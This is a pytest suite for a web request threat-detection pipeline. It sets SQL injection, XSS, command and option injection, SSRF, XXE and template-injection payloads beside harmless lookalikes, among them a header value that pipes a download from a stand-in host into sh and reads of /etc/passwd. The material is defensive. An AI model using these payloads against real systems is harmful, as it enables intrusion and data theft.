"""Spellings of attacks that a pattern once missed, each beside what only looks like one."""

from __future__ import annotations

import base64
import json
import zlib

import pytest

from signoff.actions.action import Json
from signoff.pipeline import Pipeline, web_detectors, web_request

PIPELINE = Pipeline.sync(web_detectors())
ASK_AT = 40


def stops(path: str = "/x", *, headers: dict[str, str] | None = None, **parts: Json) -> bool:
    """Say whether a request is asked about or refused."""
    heads = {"Host": "shop.example", **(headers or {})}
    request = web_request(path, headers=heads, **parts)  # type: ignore[arg-type]  # JSON
    return PIPELINE.decide(request).threat.score >= ASK_AT


def stops_query(**query: str) -> bool:
    return stops(query=query)


def stops_json(body: Json, path: str = "/x") -> bool:
    headers = {"Content-Type": "application/json"}
    return stops(path, method="POST", headers=headers, body=json.dumps(body))


def found_in_query(value: str) -> set[str]:
    """Return the detectors that find something in a value of a query."""
    request = web_request("/x", query={"u": value})
    return {one.detector for one in PIPELINE.decide(request).threat.results}


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "page",
    [
        "<!DOCTYPE x><b>",
        "<?xml version='1.0'?>",
        "<A HREF=x>",
        "<SCRIPT>x()",
        "<html>",
        "<svg onload=x>",
    ],
)
def test_a_page_in_a_data_address_is_told_by_its_first_letters(page: str) -> None:
    """Every tag begins with one of six pairs of letters; a picture begins with none of them."""
    address = "data:application/x-a;base64,"
    assert "xss" in found_in_query(address + in_base64(page))
    assert "xss" not in found_in_query(address + in_base64("PNG" * 9))


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("livescript: a language that compiles", "livescript:go()"),
        ("tests with mocha: fast ones first", "mocha:[code]"),
        ("mocha:^10.2.0", "mocha:alert(1)"),
    ],
)
def test_schemes_of_old_browsers(harmless: str, harmful: str) -> None:
    """Netscape ran what stood behind these; in prose they are names of tools."""
    assert (False, True) == (stops_query(u=harmless), stops_query(u=harmful))


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("--verbose", "--checkpoint-action=exec=sh"),
        ("-o wide", "-oProxyCommand=id"),
        ("--upload", "--upload-pack=id"),
        ("-1", "-exec id"),
        ("w^2 and x^2 | y^2", "1 | w^ho^am^i"),
    ],
)
def test_options_and_carets_of_commands(harmless: str, harmful: str) -> None:
    """An option that runs a program is one wherever it lands; a power is no caret of cmd.exe."""
    assert (False, True) == (stops_query(name=harmless), stops_query(name=harmful))


@pytest.mark.parametrize(
    ("path", "is_found"),
    [
        ("/static../settings.py", True),
        ("/static/settings.py", False),
        ("/notes/and-so-on...", False),
        ("/a..b/c", False),
    ],
)
def test_a_folder_that_ends_in_dots_climbs(path: str, *, is_found: bool) -> None:
    """An alias without its slash leads beside the folder that is served."""
    assert is_found is stops(path)


@pytest.mark.parametrize(
    ("language", "is_found"),
    [
        ("de-DE,de;q=0.9,en;q=0.8", False),
        ("*", False),
        ("en' and (select 1 from (select sleep(5))a)-- -", True),
    ],
)
def test_a_quiet_header_has_the_signs_of_its_grammar(language: str, *, is_found: bool) -> None:
    """No browser writes a quote into a list of languages."""
    assert is_found is stops(headers={"Accept-Language": language})


def test_what_a_cookie_carries_in_base64_is_read() -> None:
    """An application unpacks it; a token and settings in JSON are nothing to it."""
    attack = in_base64("1' UNION SELECT password FROM users WHERE 'a'='a")
    settings = in_base64('{"theme": "dark", "columns": ["a", "b"]}')
    for packed, is_found in (
        (attack, True),
        (settings, False),
        ("c2Vzc2lvbi1pZC0wMTIzNDU2Nzg5", False),
    ):
        assert is_found is stops(headers={"Cookie": f"a=1; prefs={packed}"})
        assert is_found is stops_query(prefs=packed)


@pytest.mark.parametrize("is_deflated", [False, True])
def test_a_message_of_saml_is_unpacked(*, is_deflated: bool) -> None:
    """It is XML in Base64, in addresses packed as well; entities in it are found."""

    def message(text: str) -> str:
        packer = zlib.compressobj(wbits=-15)
        packed = packer.compress(text.encode()) + packer.flush()
        return base64.b64encode(packed if is_deflated else text.encode()).decode()

    plain = "<p:Response xmlns:p='urn:p'><p:Name>O'Hara &amp; Sons</p:Name></p:Response>"
    entity = "<!DOCTYPE r [<!ENTITY x SYSTEM 'http://e.example/x'>]>"
    assert (False, True) == (
        stops_query(SAMLRequest=message(plain)),
        stops_query(SAMLRequest=message(f"<?xml version='1.0'?>{entity}{plain}")),
    )


def test_two_dashes_are_no_multipart() -> None:
    """YAML and comments of SQL begin like a boundary; a type or a sign tells them apart."""
    yaml = {"Content-Type": "application/x-yaml"}
    assert (False, True, True) == (
        stops(method="POST", headers=yaml, body="--- \nname: Ann O'Hara\n"),
        stops(method="POST", headers=yaml, body="--- !ruby/object:Gem::Installer\ni: x\n"),
        stops(method="POST", body="-- x'; drop table users\n1' union select 1, pw from users"),
    )


@pytest.mark.parametrize(
    ("value", "is_found"),
    [
        ("org.springframework.context.support.ClassPathXmlApplicationContext", True),
        ("org.springframework.boot.SpringApplication", False),
        ("BAhvOkBBY3RpdmVTdXBwb3J0", True),
        ("BAh7B0kiD3Nlc3Npb25faWQ", False),
        ("' LOAD CSV FROM 'http://e.example/a' AS l RETURN l //", True),
        ("how to load CSV files from a folder", False),
        ("x\r\nSLAVEOF e.example 6379\r\nCONFIG SET dir /var/www\r\n", True),
        ("slave of the\nrhythm and\nflush with cash", False),
        ("http://168.63.129.16/machine/?comp=goalstate", True),
        ("http://169\u3002254\u3002169\u3002254/latest/", True),
        ("東京。大阪。", False),
    ],
)
def test_values(value: str, *, is_found: bool) -> None:
    """Each stands beside what is written like it."""
    assert is_found is stops_json({"a": value})


@pytest.mark.parametrize(
    ("headers", "is_found"),
    [
        ({"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}, True),
        ({"Upgrade": "websocket", "Sec-WebSocket-Version": "13"}, False),
        ({"X-Original-URL": "/admin/delete?u=1"}, True),
        ({"X-Original-URL": "/shop/cart"}, False),
    ],
)
def test_headers_that_lead_past_the_front_server(
    headers: dict[str, str], *, is_found: bool
) -> None:
    """Another protocol or a guarded path behind an open one is never checked."""
    assert is_found is stops("/shop", headers=headers)


def test_a_path_that_was_asked_for_is_no_other_one() -> None:
    """IIS names the path that was asked for in the same header."""
    assert not stops("/admin/users", headers={"X-Original-URL": "/admin/users"})


@pytest.mark.parametrize(
    ("target", "score"),
    [
        ("https://shop.example.evil.example/", 90),
        ("https://evil\u3002example", 90),
        ("https://partner.example/", 45),
        ("https://www.shop.example/", 0),
    ],
)
def test_a_host_that_looks_like_the_own_one(target: str, score: int) -> None:
    """A foreign host is asked about; one that is made to look like the own one is refused."""
    request = web_request("/go", query={"next": target}, headers={"Host": "shop.example"})
    assert score == PIPELINE.decide(request).threat.score


@pytest.mark.parametrize(
    ("value", "is_found"),
    [
        ('genres = "Action" AND (year > 1990 OR rating >= 8)', False),
        ("*[type == 'draft' && updated < '2020-01-01']", False),
        ("name = 'x' or 1 = 1", True),
        ("x' or 'a' = 'a", True),
        ("id = 1 union select password from users", True),
    ],
)
def test_a_filter_compares_names_with_values(value: str, *, is_found: bool) -> None:
    """Search services take comparisons; what is always true or goes on is none of them."""
    assert is_found is stops_query(filter=value)
    if not is_found:
        assert stops_query(id=value)


def test_a_password_is_full_of_signs() -> None:
    """It may end as an attack does; one that says more is found, and so is another field."""
    assert (False, True, True) == (
        stops_json({"password": "Tr0ub4dor&3'--"}),
        stops_json({"note": "Tr0ub4dor&3'--"}),
        stops_json({"password": "x' or '1'='1"}),
    )


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"sql": "SELECT a FROM s UNION ALL SELECT a FROM t"}, False),
        ({"sql": "SELECT a FROM s UNION ALL SELECT password FROM users"}, True),
        ({"name": "SELECT a FROM s UNION ALL SELECT a FROM t"}, True),
        ({"cells": [{"cell_type": "code", "source": "!pip install x && ls -la"}]}, False),
        ({"cells": [{"cell_type": "code", "source": "!ls; id", "name": "x; id"}]}, True),
        ({"cell_type": "code", "source": "!pip install x && ls -la"}, True),
        ({"messages": [{"role": "user", "content": "ls -la /etc/hosts; cat a | sort"}]}, False),
        ({"role": "user", "content": "ls -la /etc/hosts; cat a | sort"}, True),
        ({"actions": [{"file_path": "a.rb", "content": "x = `id`\nsystem('make')\n"}]}, False),
        ({"file_path": "a.rb", "content": "x = `id`\nsystem('make')\n"}, True),
        ({"Image": "a", "Cmd": ["sh", "-c", "apk add curl && curl http://web/x"]}, False),
        ({"Cmd": ["sh", "-c", "apk add curl && curl http://web/x"]}, True),
        ({"script": "#!/bin/sh\nset -e\ncd x && make\n"}, False),
        ({"name": "#!/bin/sh\nset -e\ncd x && /bin/cat y\n"}, True),
        ({"t": "{{ $labels.instance }} has {{ $value }}"}, False),
        ({"t": "{{ $smarty.version }}"}, True),
        ({"t": "Write to <mailto:a@b.example> or <https://b.example/x>"}, False),
        ({"t": "Write to <x:script>alert(1)</x:script> or else"}, True),
        ({"t": 'Put `<script src="/app.js"></script>` at the end'}, False),
        ({"t": 'Put `<script src="//e.example/a.js"></script>` at the end'}, True),
        ({"t": 'Put <script src="/app.js"></script> at the end'}, True),
        ({"v": "https://vega.github.io/schema/vega/v5.json"}, False),
    ],
)
def test_members_that_hold_programs(body: Json, *, is_found: bool) -> None:
    """What a document shows, keeps or is to run is no attack; beside it every value is read."""
    assert is_found is stops_json(body)


@pytest.mark.parametrize(
    ("frame", "is_found"),
    [
        (
            '<iframe width="5" src="https://www.youtube.com/embed/a1" allowfullscreen></iframe>',
            False,
        ),
        ('<iframe src="https://e.example/embed/a1"></iframe>', True),
        ('<iframe src="https://www.youtube.com/embed/a" onload=x()></iframe>', True),
        ('<iframe src="https://www.youtube.com.e.example/embed/a"></iframe>', True),
        ('<iframe srcdoc="<b>" src="https://www.youtube.com/embed/a"></iframe>', True),
        ("<html><body><!--[if mso]><p>a</p><![endif]--><p>b</p></body></html>", False),
        ("<html><body><!--[if IE]><script>x()</script><![endif]--></body></html>", True),
    ],
)
def test_frames_of_known_players(frame: str, *, is_found: bool) -> None:
    """A player of a known host is shown in pages; any other frame is not."""
    assert is_found is stops_json({"html": f"<p>Look at this film</p>{frame}"})


@pytest.mark.parametrize(
    ("document", "is_found"),
    [
        ("<fetch top='10'><condition operator='like' value='%co%'/></fetch>", False),
        ('<fetch><condition value="1\' union select a from b"/></fetch>', True),
        ("<fetch onload=x()>a</fetch>", True),
        ("<svg><a>b</a></svg>", True),
    ],
)
def test_a_document_in_a_parameter_is_read_by_its_values(document: str, *, is_found: bool) -> None:
    """Quotes of attributes close nothing; what they hold is still read."""
    assert is_found is stops_query(fetchXml=document)


def test_a_sheet_of_the_own_site_in_xml() -> None:
    """A feed may name one; one of another host is found."""

    def stops_feed(sheet: str) -> bool:
        page = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{sheet}"?>'
        body = f"{page}<rss version='2.0'><channel><title>A</title></channel></rss>"
        return stops(method="POST", headers={"Content-Type": "text/xml"}, body=body)

    assert (False, True) == (stops_feed("/rss.xsl"), stops_feed("//e.example/rss.xsl"))


def test_text_behind_an_inner_element_goes_on_with_the_sentence() -> None:
    """`& wait` is no command there; what is one still is."""

    def stops_unit(rest: str) -> bool:
        body = f"<u xmlns='urn:x'><s>Click <g id='1'>here</g> &amp; {rest}</s></u>"
        return stops(method="POST", headers={"Content-Type": "text/xml"}, body=body)

    assert (False, True) == (stops_unit("wait"), stops_unit("cat /etc/hosts"))


@pytest.mark.parametrize(("kind", "is_found"), [("text/x-sh", False), ("", True)])
def test_a_whole_body_that_is_a_program(kind: str, *, is_found: bool) -> None:
    """It is stored under its own media type; without one it is a value."""
    script = "#!/bin/sh\nset -e\ncd /srv/app && git pull\n/bin/cat x\n"
    headers = {"Content-Type": kind} if kind else {}
    assert is_found is stops(method="PUT", headers=headers, body=script)


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"stack": [{"file": "a.py", "line": 3, "code": 'run(f"SELECT * FROM t")'}]}, False),
        ({"lines": [{"line": 3, "code": "x' union select pw from users --"}]}, True),
        ({"file": "a.py", "line": 3, "code": "x' union select pw from users --"}, True),
        ({"f": '=QUERY(A1:D; "select A, sum(B) where C > 5 group by A"; 1)'}, False),
        ({"f": '=QUERY(A1:D; "select A"; 1); drop table users'}, True),
        ({"t": "{{ states('sensor.x') | float > 3 and is_state('a.b','on') }}"}, False),
        ({"t": "{{ states('sensor.x').__class__ }}"}, True),
        ({"t": "{{ popen('id') }}"}, True),
        ({"if": "q1 == 'yes' && q2 > 3"}, False),
        ({"if": "x' || 'a' == 'a"}, True),
        ({"pipeline": [{"$lookup": {"from": "admins", "as": "c"}}]}, True),
        ({"pipeline": [{"lookup": {"from": "admins", "as": "c"}}]}, False),
        ({"n": "1 or 1 rlike 1"}, True),
        ({"n": "1 or 2 like it"}, False),
        ({"n": "a=i;b=d;$a$b"}, True),
        ({"n": "a=1;b=2 costs $a"}, False),
        ({"u": "ssh://-oProxyCommand=id/x"}, True),
        ({"u": "ssh://git.partner.example/x"}, False),
    ],
)
def test_more_members_and_spellings(body: Json, *, is_found: bool) -> None:
    """Each stands beside what is written like it."""
    assert is_found is stops_json(body)


@pytest.mark.parametrize(
    ("addresses", "is_found"),
    [("203.0.113.7, [2001:db8::1]:443", False), ("127.0.0.1; curl e.example|sh", True)],
)
def test_a_header_of_addresses_holds_nothing_else(addresses: str, *, is_found: bool) -> None:
    """No proxy writes a command behind an address."""
    assert is_found is stops(headers={"X-Forwarded-For": addresses})


@pytest.mark.parametrize(
    "body",
    [
        {"notes": [{"content": "x'; drop table a; --", "path": "a"}]},
        {"comments": [{"content": "see x; cat /etc/passwd", "role": "user"}]},
        {"messages": [{"content": "x' union select pw from users --", "role": "user"}]},
        {"messages": [{"content": "<script>x()</script>", "role": "user"}]},
        {"rows": [{"cell_type": "code", "source": "x; cat /etc/passwd"}]},
        {"items": [{"file": "a", "line": 1, "code": "x' union select pw from users --"}]},
        {"coupons": [{"type": "codeBlock", "code": "x'; drop table a; --"}]},
        [{"type": "codeBlock", "text": "x'; drop table a; --"}],
        {"code": "#!/bin/sh\nx'; drop table a; --"},
    ],
)
def test_a_member_more_makes_no_document(body: Json) -> None:
    """A caller may add `role` or `type`; the name of the list is the application's own."""
    assert stops_json(body)
